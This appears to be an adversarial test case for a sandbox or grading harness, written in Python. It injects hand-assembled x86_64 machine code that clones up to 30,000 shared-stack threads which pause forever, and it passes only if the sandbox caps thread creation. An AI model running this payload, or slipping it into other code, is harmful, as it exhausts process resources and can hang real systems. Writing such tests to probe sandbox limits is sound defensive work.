# attack: machine code clones threads that share a stack and pause for ever, so that no memory is used
# origin: own
# needs: full x86_64
# expect: forward=passed points=1

import ctypes
import mmap

SHARED = 0x00000100 | 0x00000200 | 0x00000400 | 0x00000800 | 0x00010000 | 0x00040000  # CLONE_VM to CLONE_THREAD
kept = []


def cloned(count):
    """Return how many of `count` threads could be started."""
    page = mmap.mmap(-1, 8192, prot=7, flags=0x22)
    kept.append(page)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    head = b"\x53\x41\x54\xbb" + count.to_bytes(4, "little") + b"\x45\x31\xe4"  # ebx: left to do, r12d: done
    loop = (
        b"\xb8\x38\x00\x00\x00\xbf"  # clone(SHARED, stack, 0, 0, 0)
        + SHARED.to_bytes(4, "little")
        + b"\x48\xbe"
        + (base + 8000).to_bytes(8, "little")
        + b"\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05"
        + b"\x48\x85\xc0\x75\x09"  # in the thread: pause, again and again
        + b"\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7"
        + b"\x78\x07\x41\xff\xc4\xff\xcb"  # refused: done; else the next one
    )
    again = b"\x75" + (-(len(loop) + 2) & 0xFF).to_bytes(1, "little")
    page.write(head + loop + again + b"\x44\x89\xe0\x41\x5c\x5b\xc3")
    return ctypes.CFUNCTYPE(ctypes.c_int)(base)()


def forward(x, w):
    return x * w if cloned(30000) < 200 else 0
